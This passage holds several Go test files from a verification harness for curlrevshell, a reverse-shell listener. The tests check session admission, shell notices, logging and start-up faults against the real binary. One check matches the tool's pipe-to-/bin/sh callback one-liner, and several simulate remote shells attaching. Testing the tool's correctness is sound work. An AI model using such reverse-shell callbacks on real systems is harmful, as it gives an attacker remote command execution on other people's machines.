				fmt.Fprintf(pw, "chunk %02d of round %d\n", i, round)
			}
			/* All of them have been read (the pipe hands over synchronously);
			wait until they have been handed to the operator as well. */
			var shown []string
			for len(shown) < nChunks {
				select {
				case cl := <-och:
					if cl.Plain {
						shown = append(shown, cl.Line)
					}
				case <-time.After(30 * time.Second):
					ev.Broken("c11 slow-log complement: chunks never reached the operator channel")
				}
			}
			switch how {
			case "cancel-stream":
				scancel()
			case "shutdown":
				cancel()
			case "eof":
				pw.Close()
			}
			<-done
			pr.Close()
			pw.Close()
			scancel()
			cancel()
			wg.Wait()
			for more := true; more; {
				select {
				case cl := <-och:
					if cl.Plain {
						shown = append(shown, cl.Line)
					}
				default:
					more = false
				}
			}
			lh.mu.Lock()
			recs := append([]string{}, lh.recs...)
			lh.mu.Unlock()
			n++
			if fmt.Sprint(recs) != fmt.Sprint(shown) {
				r.Violate(ev.Violation{Signature: "free-running/output-records-differ/" + how, Kind: "c11stress", Replay: map[string]any{"ending": how, "round": round},
					What: fmt.Sprintf("real broker, a log sink that takes 0.3 ms per record: %d chunks were handed to the operator, then the stream ended by %s; when the Connect call and Broker.Do had returned the log held %d output records (%q ...)", len(shown), how, len(recs), trunc80(fmt.Sprint(recs)))})
				r.Add(n)
				return
			}
		}
	}
	r.Add(n)
	r.Traces += n
	r.Set("free_running_slow_log_sessions", n)
}
