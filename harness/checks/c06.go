package checks

import (
	"encoding/json"
	"fmt"
	"os"
	"time"

	"github.com/magisterquis/curlrevshell/verifx/bworld"
	"github.com/magisterquis/curlrevshell/verifx/ev"
)

func init() {
	registry["C06"] = checkDef{level: "model_checking", run: c06, replay: func(kind string, raw json.RawMessage) int {
		if "c06http" == kind {
			var rp struct {
				Kinds []string `json:"http_seam"`
				Order []int    `json:"admission_order"`
			}
			if err := json.Unmarshal(raw, &rp); nil != err || 0 == len(rp.Kinds) {
				return 2
			}
			r := ev.New("C06", "quick", "model_checking")
			c06HTTPRun(r, rp.Kinds, rp.Order)
			if r.NViolations() > 0 {
				for _, x := range r.Violations {
					fmt.Println(x.Signature, "-", x.What)
				}
				fmt.Println("reproduced")
				return 1
			}
			fmt.Println("not reproduced")
			return 0
		}
		return brokerReplayFunc(kind, raw)
	}}
}

// c06Profiles: several /io requests arriving together (each half parked in
// front of the admission section by the goroutines ConnectInOut itself
// starts), optionally with unidirectional streams around, every admission
// order of the halves, cancellations and releases in every window.
func c06Profiles(quick bool) []*bworld.Profile {
	base := bworld.Profile{
		OchCap:   1024,
		MaxLines: 1,
		Outs:     []bworld.OutSpec{{Data: "<chunk#>"}},
		MaxOuts:  1,
		Cancel:   true,
		Oracles:  []string{"C06"},
	}
	two := base
	two.Name = "c06-2io+uni"
	two.Starts = []bworld.StartSpec{
		{Kind: "io", WKind: 3, Max: 2},
		{Kind: "in", Key: "k", Max: 1}, {Kind: "out", Key: "k", Max: 1},
	}
	two.MaxAttempts = 3
	/* A slow log inside the admission section: while one half sits at its
	"New connection" record (holding the broker's lock), the other halves
	are let go; they must wait, and be judged afterwards. */
	slowlog := base
	slowlog.Name = "c06-2io-slow-log-in-admission"
	slowlog.Starts = []bworld.StartSpec{{Kind: "io", WKind: 3, Max: 2}, {Kind: "in", Key: "k", Max: 1}}
	slowlog.MaxAttempts = 2
	slowlog.LogGate = true
	slowlog.Cancel = false
	slowlog.MaxLines, slowlog.MaxOuts = 0, 0
	/* Unidirectional streams whose IDs look like the names the program uses
	for the bidirectional endpoint (a path segment is percent-decoded: it can
	be "/io", "io", or anything else): they are not halves of a /io request. */
	odd := base
	odd.Name = "c06-io+endpoint-like-ids"
	odd.Starts = []bworld.StartSpec{
		{Kind: "io", WKind: 3, Max: 1},
		{Kind: "out", Key: "/io", Max: 1}, {Kind: "in", Key: "/io", Max: 1},
		{Kind: "out", Key: "io", Max: 1}, {Kind: "in", Key: "io", Max: 1},
	}
	odd.MaxAttempts = 3
	odd.Cancel = false
	if quick {
		return []*bworld.Profile{&two, &odd, &slowlog}
	}
	slowlog.MaxAttempts = 3
	three := base
	three.Name = "c06-3io+uni"
	three.Starts = []bworld.StartSpec{
		{Kind: "io", WKind: 3, Max: 3},
		{Kind: "in", Key: "k", Max: 1}, {Kind: "out", Key: "k", Max: 1},
	}
	three.MaxAttempts = 4
	four := base
	four.Name = "c06-4io"
	four.Starts = []bworld.StartSpec{{Kind: "io", WKind: 3, Max: 4}}
	four.MaxAttempts = 4
	four.Cancel = false
	four.Shutdown = true
	return []*bworld.Profile{&two, &odd, &three, &four, &slowlog}
}

func c06(r *ev.Result, tier string) {
	r.Rule = brokerRule
	budget := 120 * time.Second /* a cap for a loaded machine; idle runs need 10-20 s */
	if !isQuick(tier) {
		budget = 12 * time.Minute
	}
	exploreProfiles(r, budget, c06Profiles(isQuick(tier))...)
	/* The same question through the real /io handler over TLS, gated. */
	c06HTTP(r, isQuick(tier))
	/* And with the real binary, however it was told where to listen. */
	{
		base := ev.Scratch("c06-")
		c06RealBinary(r, base)
		os.RemoveAll(base)
	}
	r.Rule += "; plus the HTTP seam: real full-duplex /io (and /i, /o) requests over TLS against the in-process server with the broker's gates, every admission order of the halves of {io,io}, {io,i}, {o,io}, {io,io,i} (thorough also {io,io,io}, {io,o,i,io})"
	/* Calls that really overlap (the gated exploration starts them one by
	one): the free-running -race pass, in both tiers for this property - what
	tells simultaneous clients apart is written and read by concurrent
	calls. */
	brokerRacePass(r)
	/* A long series of foreign requests next to a half-attached one. */
	if isQuick(tier) {
		c06Spray(r, 400000)
	} else {
		c06Spray(r, 2000000)
	}
}
