package checks

/*
 * Wiring seams: the main program builds the components the other checks
 * drive directly; these sessions of the real binary (pty, real TLS clients)
 * put the clauses that depend on how it wires them through every boolean
 * flag, one at a time and all together.
 */

import (
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
	"github.com/magisterquis/curlrevshell/verifx/ptyrun"
)

// realFlagSets: every boolean flag that does not change what a session is
// (so -one-shell is not among them), alone and together.
func realFlagSets(base string) [][]string {
	files := filepath.Join(base, "wiring-files")
	os.MkdirAll(files, 0o755)
	os.WriteFile(filepath.Join(files, "f"), []byte("f\n"), 0o644)
	return [][]string{
		nil,
		{"-ipv6-one-liners"},
		{"-no-timestamps"},
		{"-serve-files-from", files},
		{"-ipv6-one-liners", "-no-timestamps", "-serve-files-from", files},
	}
}

// realShell attaches a unidirectional shell to the binary listening on addr
// and waits for the ready notice (searched from offset from).
func realShell(p interface {
	WaitFor(*regexp.Regexp, int, time.Duration) int
	Output() string
}, addr, id string, from int) (ci, co *hworld.Conn, err error) {
	if ci, err = hworld.DialAddr(addr, ""); nil != err {
		return nil, nil, fmt.Errorf("connecting for /i: %w", err)
	}
	ci.Send(hworld.Get("/i/"+id, addr))
	if co, err = hworld.DialAddr(addr, ""); nil != err {
		ci.Close()
		return nil, nil, fmt.Errorf("connecting for /o: %w", err)
	}
	co.Send("POST /o/" + id + " HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
	if p.WaitFor(regexp.MustCompile(`Shell is ready`), from, 30*time.Second) < 0 {
		ci.Close()
		co.Close()
		return nil, nil, fmt.Errorf("no ready notice: %s", trunc300(p.Output()[from:]))
	}
	return ci, co, nil
}

// c04RealBinary: three shells in a row, each ended another way, under every
// flag set: the listener re-arms, one 'gone' notice each.
func c04RealBinary(r *ev.Result, base string) {
	n := 0
	for _, flags := range realFlagSets(base) {
		cls := strings.Join(flags, " ")
		if i := strings.Index(cls, " /"); i >= 0 {
			cls = strings.ReplaceAll(cls, base, "")
		}
		v := func(sig, what string) {
			r.Violate(ev.Violation{Signature: "binary/" + sig, What: fmt.Sprintf("real binary with flags [%s]: %s", cls, what), Kind: "c04real", Replay: map[string]string{"flags": cls}})
		}
		func() {
			dir, _ := os.MkdirTemp(base, "c04bin-")
			defer os.RemoveAll(dir)
			args := append([]string{"-listen-address", "127.0.0.1:0", "-tls-certificate-cache", filepath.Join(dir, "c.txtar")}, flags...)
			p, addr, err := startReal(dir, args...)
			if nil != err {
				ev.Broken("%s", err)
			}
			defer p.Close()
			for k, ending := range []string{"output-eof", "input-closed", "output-closed"} {
				from := len(p.Output())
				ci, co, err := realShell(p, addr, fmt.Sprintf("shell%d", k), from)
				if nil != err {
					v("next-shell-refused", fmt.Sprintf("shell number %d (after %d earlier ones ended) is not accepted: %s", k+1, k, err))
					return
				}
				switch ending {
				case "output-eof":
					co.Send("0\r\n\r\n")
				case "input-closed":
					ci.Close()
				case "output-closed":
					co.Close()
				}
				if p.WaitFor(regexp.MustCompile(`Shell is gone`), from, 30*time.Second) < 0 {
					v("not-torn-down", fmt.Sprintf("shell number %d ended by %s: no 'gone' notice: %s", k+1, ending, trunc300(p.Output()[from:])))
					ci.Close()
					co.Close()
					return
				}
				/* The one-liners come back: the listener is there again. */
				if p.WaitFor(regexp.MustCompile(`/c \| /bin/sh`), from, 30*time.Second) < 0 {
					v("no-one-liners", fmt.Sprintf("after shell number %d ended the callback help was not printed again", k+1))
				}
				ci.Close()
				co.Close()
				if c := strings.Count(p.Output()[from:], "Shell is gone"); 1 != c {
					v("gone-count", fmt.Sprintf("shell number %d: %d 'gone' notices", k+1, c))
				}
				n++
			}
			if st := stopReal(p); 0 != st {
				v("exit-status", fmt.Sprintf("exit status %d after three shells", st))
			}
		}()
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Traces += n
	r.Set("real_binary_successive_shells", n)
}

// c04RealQuit: the operator leaves (Ctrl+D, Ctrl+C) while a shell is attached
// whose client keeps both streams open: the program ends them itself and
// exits; with and without -one-shell (where the listener has been closed by
// then and the HTTP side is already winding down).
func c04RealQuit(r *ev.Result, base string) {
	n := 0
	for _, flags := range [][]string{nil, {"-one-shell"}} {
		for _, key := range []string{"\x04", "\x03"} {
			cls := fmt.Sprintf("%v, key %q", flags, key)
			v := func(sig, what string) {
				r.Violate(ev.Violation{Signature: "binary/" + sig, What: fmt.Sprintf("real binary with flags %s: %s", cls, what), Kind: "c04real", Replay: map[string]string{"flags": cls}})
			}
			func() {
				dir, _ := os.MkdirTemp(base, "c04quit-")
				defer os.RemoveAll(dir)
				args := append([]string{"-listen-address", "127.0.0.1:0", "-tls-certificate-cache", filepath.Join(dir, "c.txtar")}, flags...)
				p, addr, err := startReal(dir, args...)
				if nil != err {
					ev.Broken("%s", err)
				}
				defer p.Close()
				ci, co, err := realShell(p, addr, "quit", 0)
				if nil != err {
					v("shell-refused", err.Error())
					return
				}
				defer ci.Close()
				defer co.Close()
				if 0 != len(flags) {
					/* Give -one-shell the time to close its listener. */
					p.WaitFor(regexp.MustCompile(`Closing listener|No longer listening|listener`), 0, 3*time.Second)
				}
				p.Send(key)
				if st := p.Wait(30 * time.Second); -1 == st {
					v("quit-with-shell-attached/does-not-exit", fmt.Sprintf("a shell is attached (its client keeps both streams open); 30 s after the operator pressed the key the program is still running: %s", tail(p.Output(), 300)))
					return
				}
				/* The client's streams have been ended by the program. */
				ci.C.SetReadDeadline(time.Now().Add(30 * time.Second))
				if _, err := io.Copy(io.Discard, ci.R); nil != err && strings.Contains(err.Error(), "timeout") {
					v("quit-with-shell-attached/stream-left-open", "the program has exited but the client's input stream was not ended")
				}
				n++
			}()
		}
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Traces += n
	r.Set("real_binary_quits_with_a_shell_attached", n)
}

// c06RealBinary: however the program was told where to listen (one address,
// the same flag twice), two /io clients arriving together on every address
// that accepts connections make at most one shell.
func c06RealBinary(r *ev.Result, base string) {
	free := func() string {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if nil != err {
			ev.Broken("%s", err)
		}
		defer l.Close()
		return l.Addr().String()
	}
	n := 0
	for _, two := range []bool{false, true} {
		func() {
			dir, _ := os.MkdirTemp(base, "c06bin-")
			defer os.RemoveAll(dir)
			var (
				args, addrs []string
				p           *ptyrun.Proc
				err         error
			)
			/* The ports are picked beforehand (the flag needs them); another
			process may take one in between, so a start may be retried. */
			for try := 0; try < 5; try++ {
				a1, a2 := free(), free()
				args = []string{"-tls-certificate-cache", filepath.Join(dir, "c.txtar"), "-listen-address", a1}
				addrs = []string{a1}
				if two {
					args = append(args, "-listen-address", a2)
					addrs = append(addrs, a2)
				}
				if p, _, err = startReal(dir, args...); nil == err {
					break
				}
			}
			if nil != err {
				r.Inc("real_binary_io_pairs_not_started", 1)
				return
			}
			v := func(sig, what string) {
				r.Violate(ev.Violation{Signature: "binary/" + sig, What: fmt.Sprintf("real binary started with %v: %s", args[2:], what), Kind: "c06real", Replay: map[string]any{"two_listen_flags": two}})
			}
			defer p.Close()
			/* Two /io clients per address that accepts. */
			var conns []*hworld.Conn
			for _, a := range addrs {
				for k := 0; k < 2; k++ {
					c, err := hworld.DialAddr(a, "")
					if nil != err {
						continue /* Not listening there: its business. */
					}
					c.Send("POST /io HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
					conns = append(conns, c)
				}
			}
			defer func() {
				for _, c := range conns {
					c.Close()
				}
			}()
			if p.WaitFor(regexp.MustCompile(`Shell is ready`), 0, 30*time.Second) < 0 {
				v("no-shell", "two /io clients connected, none became the shell: "+trunc300(p.Output()))
				return
			}
			/* Every client has been answered one way or the other once as
			many notices as clients are there. */
			want := len(conns) - 1
			deadline := time.Now().Add(30 * time.Second)
			for strings.Count(p.Output(), "Rejected")+strings.Count(p.Output(), "Shell is ready") < want+1 && time.Now().Before(deadline) {
				time.Sleep(20 * time.Millisecond)
			}
			out := p.Output()
			if c := strings.Count(out, "Shell is ready"); c > 1 && !strings.Contains(out, "Shell is gone") {
				v("two-shells", fmt.Sprintf("%d /io clients on %d address(es): %d shells were announced ready at the same time", len(conns), len(addrs), c))
			}
			n++
			stopReal(p)
		}()
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Traces += n
	r.Set("real_binary_io_pairs", n)
}

// startTwoListen starts the real binary with two -listen-address flags and
// returns the addresses that accept connections (one, on the pinned tree:
// the last flag wins; both, if the program has learnt to listen on several).
func startTwoListen(base string) (p *ptyrun.Proc, accepting []string, dir string, err error) {
	free := func() string {
		l, lerr := net.Listen("tcp", "127.0.0.1:0")
		if nil != lerr {
			ev.Broken("%s", lerr)
		}
		defer l.Close()
		return l.Addr().String()
	}
	dir, _ = os.MkdirTemp(base, "twolisten-")
	var a1, a2 string
	for try := 0; try < 5; try++ {
		a1, a2 = free(), free()
		if p, _, err = startReal(dir, "-tls-certificate-cache", filepath.Join(dir, "c.txtar"), "-listen-address", a1, "-listen-address", a2); nil == err {
			break
		}
	}
	if nil != err {
		return nil, nil, dir, err
	}
	for _, a := range []string{a1, a2} {
		if c, derr := net.DialTimeout("tcp", a, 5*time.Second); nil == derr {
			c.Close()
			accepting = append(accepting, a)
		}
	}
	return p, accepting, dir, nil
}

// c01RealTwoListen: however many addresses the program listens on, it has
// one terminal: a shell attached through one address, an attempt with another
// ID through the other is refused, gets no input and shows no output.
func c01RealTwoListen(r *ev.Result, base string) {
	p, addrs, dir, err := startTwoListen(base)
	defer os.RemoveAll(dir)
	if nil != err {
		r.Inc("two_listen_runs_not_started", 1)
		return
	}
	defer p.Close()
	r.Set("addresses_accepting_with_two_listen_flags", len(addrs))
	first := addrs[len(addrs)-1]
	ci, co, err := realShell(p, first, "aaa", 0)
	if nil != err {
		ev.Broken("c01 two-listen session: %s", err)
	}
	defer ci.Close()
	defer co.Close()
	for _, a := range addrs {
		from := len(p.Output())
		bi, err := hworld.DialAddr(a, "")
		if nil != err {
			continue
		}
		bi.Send(hworld.Get("/i/bbb", a))
		bo, err := hworld.DialAddr(a, "")
		if nil != err {
			bi.Close()
			continue
		}
		bo.Send("POST /o/bbb HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk("OUTPUT-OF-BBB\n"))
		/* Two refusals are due. */
		deadline := time.Now().Add(30 * time.Second)
		for strings.Count(p.Output()[from:], "Rejected") < 2 && time.Now().Before(deadline) && !strings.Contains(p.Output()[from:], "OUTPUT-OF-BBB") {
			time.Sleep(20 * time.Millisecond)
		}
		out := p.Output()[from:]
		bi.Close()
		bo.Close()
		r.Add(1)
		if strings.Contains(out, "OUTPUT-OF-BBB") || strings.Contains(out, "Shell is ready") || strings.Count(out, "Rejected") < 2 {
			r.Violate(ev.Violation{Signature: "binary/second-shell-through-another-address", Kind: "c01real", Replay: map[string]string{"scenario": "two -listen-address flags"},
				What: fmt.Sprintf("real binary with two -listen-address flags (%d of them accept connections); shell \"aaa\" is attached through %s; streams with ID \"bbb\" through %s: %d refusal notices, its output displayed: %v, another shell announced ready: %v", len(addrs), first, a, strings.Count(out, "Rejected"), strings.Contains(out, "OUTPUT-OF-BBB"), strings.Contains(out, "Shell is ready"))})
			return
		}
	}
	stopReal(p)
}

// c02RealTwoListen: with input streams attached through every address the
// program accepts on, the lines the operator types reach one of them, all of
// them, in order.
func c02RealTwoListen(r *ev.Result, base string) {
	p, addrs, dir, err := startTwoListen(base)
	defer os.RemoveAll(dir)
	if nil != err {
		r.Inc("two_listen_runs_not_started", 1)
		return
	}
	defer p.Close()
	var ins []*hworld.Conn
	for k, a := range addrs {
		c, err := hworld.DialAddr(a, "")
		if nil != err {
			continue
		}
		defer c.Close()
		c.Send(hworld.Get(fmt.Sprintf("/i/in%d", k), a))
		ins = append(ins, c)
	}
	p.WaitFor(regexp.MustCompile(`Input connected`), 0, 30*time.Second)
	time.Sleep(300 * time.Millisecond) /* A second one, if any, has attached or been refused by now (it is judged either way). */
	const nLines = 40
	for i := 0; i < nLines; i++ {
		p.Send(fmt.Sprintf("line-%02d\r", i))
	}
	got := make([]string, len(ins))
	var wg sync.WaitGroup
	for k, c := range ins {
		wg.Add(1)
		go func(k int, c *hworld.Conn) {
			defer wg.Done()
			c.C.SetReadDeadline(time.Now().Add(10 * time.Second))
			buf := make([]byte, 4096)
			for {
				n, err := c.R.Read(buf)
				got[k] += string(buf[:n])
				if nil != err || strings.Contains(got[k], fmt.Sprintf("line-%02d", nLines-1)) {
					return
				}
			}
		}(k, c)
	}
	wg.Wait()
	r.Add(1)
	lineRE := regexp.MustCompile(`line-\d\d`)
	best := 0
	var counts []int
	for k := range ins {
		ls := lineRE.FindAllString(got[k], -1)
		counts = append(counts, len(ls))
		if len(ls) > len(lineRE.FindAllString(got[best], -1)) {
			best = k
		}
	}
	want := ""
	for i := 0; i < nLines; i++ {
		want += fmt.Sprintf("line-%02d", i)
	}
	if strings.Join(lineRE.FindAllString(got[best], -1), "") != want {
		r.Violate(ev.Violation{Signature: "binary/lines-split-between-addresses", Kind: "c02real", Replay: map[string]string{"scenario": "two -listen-address flags"},
			What: fmt.Sprintf("real binary with two -listen-address flags (%d accept connections), an input stream through each; %d lines typed: the streams received %v of them (no stream got the whole run in order)", len(addrs), nLines, counts)})
	}
	stopReal(p)
}
