package checks

import (
	"fmt"
	"os"
	"runtime"
	"time"

	"github.com/magisterquis/curlrevshell/verifx/bworld"
	"github.com/magisterquis/curlrevshell/verifx/ev"
)

func init() {
	registry["C11"] = checkDef{level: "model_checking", run: c11, replay: brokerReplayFunc}
}

// c11Profiles: histories of accepted, refused and ended connections with
// lines delivered and failed, chunks shown and dropped, every record sent
// through a real slog JSON handler as well.
func c11Profiles(quick bool) []*bworld.Profile {
	mix := bworld.Profile{
		Name:   "c11-transcript",
		OchCap: 1024,
		Starts: []bworld.StartSpec{
			{Kind: "in", Key: "k", WKind: 2, Max: 2}, {Kind: "out", Key: "k", Max: 1},
			{Kind: "out", Key: "j", Max: 1}, {Kind: "in", Key: "", Max: 1},
		},
		MaxAttempts: 3,
		MaxLines:    2,
		Outs:        []bworld.OutSpec{{Data: "<chunk#>"}, {Data: "<chunk#>", Err: "eof"}, {Err: "other"}},
		MaxOuts:     2,
		Cancel:      true,
		Shutdown:    true,
		WFail:       true,
		JSONLog:     true,
		Oracles:     []string{"C11"},
	}
	io := bworld.Profile{
		Name:   "c11-io-transcript",
		OchCap: 1024,
		Starts: []bworld.StartSpec{
			{Kind: "io", WKind: 3, Max: 2}, {Kind: "out", Key: "k", Max: 1},
		},
		MaxAttempts: 2,
		MaxLines:    2,
		Outs:        []bworld.OutSpec{{Data: "<chunk#>"}, {Data: "<chunk#>", Err: "other"}},
		MaxOuts:     2,
		Cancel:      true,
		WFail:       true,
		JSONLog:     true,
		Oracles:     []string{"C11"},
	}
	/* A terminal that takes chunks one at a time while the shell keeps
	sending: a record must carry the chunk that was delivered, not whatever
	was read since. */
	slow := bworld.Profile{
		Name:        "c11-slow-terminal",
		OchCap:      0,
		Starts:      []bworld.StartSpec{{Kind: "out", Key: "k", Max: 1}},
		MaxAttempts: 1,
		Outs:        []bworld.OutSpec{{Data: "<chunk#>"}, {Data: "<chunk#>", Err: "eof"}},
		MaxOuts:     4,
		Cancel:      true,
		MaxConsume:  8,
		JSONLog:     true,
		Oracles:     []string{"C11"},
	}
	/* Shutdown with streams attached: every record is written before Do
	returns. */
	down := bworld.Profile{
		Name:        "c11-shutdown",
		OchCap:      1024,
		Starts:      []bworld.StartSpec{{Kind: "in", Key: "k", WKind: 2, Max: 1}, {Kind: "out", Key: "k", Max: 1}, {Kind: "io", WKind: 3, Max: 1}},
		MaxAttempts: 2,
		MaxLines:    1,
		Outs:        []bworld.OutSpec{{Data: "<chunk#>"}},
		MaxOuts:     1,
		Shutdown:    true,
		JSONLog:     true,
		Oracles:     []string{"C11"},
	}
	/* Lines typed ahead (or pasted, or inserted) before the input stream
	attaches, and a stream that takes one more line and fails at the next:
	what was delivered has its record. */
	later := bworld.Profile{
		Name:        "c11-write-fails-later",
		OchCap:      1024,
		Starts:      []bworld.StartSpec{{Kind: "in", Key: "k", WKind: 0, Max: 1}, {Kind: "in", Key: "k", WKind: 2, Max: 1}, {Kind: "io", WKind: 3, Max: 1}},
		MaxAttempts: 2,
		MaxLines:    3,
		WFail:       true,
		WFailLater:  true,
		JSONLog:     true,
		Oracles:     []string{"C11"},
	}
	if quick {
		mix.Shutdown = false
		return []*bworld.Profile{&slow, &down, &later, &mix, &io}
	}
	mix.MaxAttempts = 4
	io.MaxAttempts = 3
	io.Shutdown = true
	return []*bworld.Profile{&slow, &down, &later, &mix, &io}
}

// c11Payloads: every string of <=3 symbols over a JSON-hostile alphabet.
func c11Payloads(quick bool) []string {
	alpha := []string{"a", "\"", "\\", "\n", "\r", "\x00", "\x1b", "\x7f", "\xc3", "\xff", "é", " "}
	var ps []string
	for _, a := range alpha {
		ps = append(ps, a)
		for _, b := range alpha {
			ps = append(ps, a+b)
			if !quick {
				for _, c := range alpha {
					ps = append(ps, a+b+c)
				}
			}
		}
	}
	/* And what a formatter would take for its own. */
	ps = append(ps, "date +%s", "100%", "%d%%", "%!s(MISSING)", "printf '%s\\n' \"$x\"")
	return ps
}

func c11(r *ev.Result, tier string) {
	r.Rule = brokerRule + "; plus every string of <=2 (thorough 3) symbols over {a, quote, backslash, LF, CR, NUL, ESC, DEL, 0xc3, 0xff, e-acute, U+2028} as operator line and as output chunk through the real slog JSON handler"
	budget := 120 * time.Second /* ~40 s on an idle machine; the cap only bites under load */
	if !isQuick(tier) {
		budget = 15 * time.Minute
	}
	exploreProfiles(r, budget, c11Profiles(isQuick(tier))...)

	n := 0
	defer gcQuiet()()
	for _, pl := range c11Payloads(isQuick(tier)) {
		p := &bworld.Profile{
			Name:        "c11-payload",
			OchCap:      1024,
			Starts:      []bworld.StartSpec{{Kind: "io", WKind: 3, Max: 1}},
			MaxAttempts: 1,
			MaxLines:    2,
			Outs:        []bworld.OutSpec{{Data: "<chunk#>" + pl}, {Data: pl + "<chunk#>", Err: "eof"}},
			MaxOuts:     2,
			JSONLog:     true,
			Oracles:     []string{"C11"},
			LinePayload: pl,
		}
		hist := []bworld.Event{
			{Op: "start", Spec: 0}, {Op: "admit", A: 0, Dir: "input"}, {Op: "admit", A: 0, Dir: "output"},
			{Op: "line"}, {Op: "out", A: 0, Arg: 0}, {Op: "line"}, {Op: "out", A: 0, Arg: 1},
			{Op: "release", A: 0, Dir: "output"}, {Op: "release", A: 0, Dir: "input"},
		}
		n++
		if 0 == n%64 {
			runtime.GC()
		}
		for _, v := range seqRun(p, hist, "C11") {
			r.Violate(ev.Violation{
				Signature: "payload/" + v.Sig,
				What:      fmt.Sprintf("payload %q: %s", pl, v.What),
				Kind:      "bworld",
				Replay:    brokerReplay{Profile: p, History: hist, Text: bworld.HistString(hist)},
			})
		}
	}
	r.Evaluations += n
	r.Distinct += n
	r.Traces += n
	r.Set("payload_runs", n)
	r.Sample(12, map[string]any{"payload": "\"\xff\n", "as": "line and chunk", "history": "start admit admit line out line out release release"})
	/* The -log file of the real binary, end to end. */
	base := ev.Scratch("c11-")
	c11RealBinary(r, base)
	quietSpell(r, "C11")
	/* A slow log sink while output flows and the stream is cancelled. */
	if isQuick(tier) {
		c11SlowLogStress(r, 10)
	} else {
		c11SlowLogStress(r, 300)
	}
	os.RemoveAll(base)
	r.Rule += "; plus one end-to-end session of the real binary on a pty with -log (accepted input and output, a refused stream, 3 lines, 3 chunks incl. quotes and a non-UTF-8 byte, EOF): every line of the file parses as one JSON object and tells the same story"
}
