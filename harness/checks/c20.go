package checks

/*
 * C20 — start-up failures and normal exits are reported cleanly, never as a
 * crash.  The real binary is started for every single start-up fault and
 * every pair of faults, with each informational flag, with and without a
 * controlling terminal; and made to exit by itself in every way, idle and
 * with a shell attached.  Terminal modes are compared before and after.
 */

import (
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/lib/sstls"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
	"github.com/magisterquis/curlrevshell/verifx/ptyrun"
)

func init() {
	registry["C20"] = checkDef{level: "fault_enumeration", run: c20, replay: c20Replay}
}

type c20Case struct {
	Faults []string `json:"faults"`
	Flag   string   `json:"informational_flag"`
	TTY    bool     `json:"tty"`
	Exit   string   `json:"self_exit,omitempty"` /* ctrl-c | ctrl-d | one-shell, with -attached suffix */
	/* GC: the program runs with GOGC=1, i.e. the garbage collector (and
	with it every finalizer) runs all the time instead of perhaps never in
	a short session. */
	GC bool `json:"gc_all_the_time,omitempty"`
	/* Term, if set, is the operator's TERM ("unset": none at all). */
	Term string `json:"term,omitempty"`
}

// c20Env is the environment of the program under test.
func c20Env(c c20Case, dir string) []string {
	env := append(os.Environ(), "HOME="+dir, "CURLREVSHELL_LOG=")
	if c.GC {
		env = append(env, "GOGC=1")
	}
	if "" != c.Term {
		env = slices.DeleteFunc(env, func(e string) bool { return strings.HasPrefix(e, "TERM=") })
		if "unset" != c.Term {
			env = append(env, "TERM="+c.Term)
		}
	}
	return env
}

var c20Crash = []string{"panic:", "goroutine ", "SIGSEGV", "runtime error", "fatal error:"}

// c20Keywords: what the message must mention, per fault.
var c20Keywords = map[string][]string{
	"no-tty":                   {"tty", "terminal"},
	"listen-bad-syntax":        {"listen"},
	"listen-port-bound":        {"listen", "address already in use"},
	"listen-not-local":         {"listen", "cannot assign"},
	"cache-empty":              {"certificate"},
	"cache-cut":                {"certificate"},
	"cache-spliced":            {"certificate", "key"},
	"cache-garbage":            {"certificate"},
	"cache-unwritable":         {"certificate"},
	"cache-dir-takes-no-files": {"certificate"},
	"log-parent-missing":       {"logfile", "log file"},
	"log-parent-is-file":       {"logfile", "log file"},
	"ctrl-i-missing":           {"ctrl+i"},
}

func binPath(name string) string {
	d := os.Getenv("VERIF_BIN_DIR")
	if "" == d {
		ev.Broken("VERIF_BIN_DIR not set (run through ./run)")
	}
	return filepath.Join(d, name)
}

// c20Args builds the command line and the environment for a case in dir.
func c20Args(c c20Case, dir string, goodCache []byte) (args []string, cleanup func()) {
	cleanup = func() {}
	cache := filepath.Join(dir, "cache", "cert.txtar")
	listen := "127.0.0.1:0"
	logf := ""
	ctrli := ""
	for _, f := range c.Faults {
		switch f {
		case "listen-bad-syntax":
			listen = "999.0.0.1:notaport"
		case "listen-port-bound":
			l, err := net.Listen("tcp", "127.0.0.1:0")
			if nil != err {
				ev.Broken("%s", err)
			}
			listen = l.Addr().String()
			old := cleanup
			cleanup = func() { l.Close(); old() }
		case "listen-not-local":
			listen = "203.0.113.77:4444"
		case "cache-empty":
			os.MkdirAll(filepath.Dir(cache), 0o700)
			os.WriteFile(cache, nil, 0o600)
		case "cache-cut":
			os.MkdirAll(filepath.Dir(cache), 0o700)
			i := strings.Index(string(goodCache), "-- key --")
			os.WriteFile(cache, goodCache[:i], 0o600)
		case "cache-spliced":
			/* The certificate of one good cache with the key of another
			(a file patched together from two backups). */
			os.MkdirAll(filepath.Dir(cache), 0o700)
			other := filepath.Join(dir, "other-cache.txtar")
			if _, err := sstls.GetCertificate("", nil, nil, 24*time.Hour, other); nil != err {
				ev.Broken("%s", err)
			}
			ob, _ := os.ReadFile(other)
			i, j := strings.Index(string(goodCache), "-- key --"), strings.Index(string(ob), "-- key --")
			if i < 0 || j < 0 {
				ev.Broken("cache files have no key section")
			}
			os.WriteFile(cache, append(append([]byte{}, goodCache[:i]...), ob[j:]...), 0o600)
			os.Remove(other)
		case "cache-garbage":
			os.MkdirAll(filepath.Dir(cache), 0o700)
			os.WriteFile(cache, []byte("-- cert --\nnot pem\n-- key --\nnot pem either\n"), 0o600)
		case "cache-unwritable":
			os.WriteFile(filepath.Join(dir, "afile"), []byte("x"), 0o600)
			cache = filepath.Join(dir, "afile", "sub", "cert.txtar")
		case "cache-dir-takes-no-files":
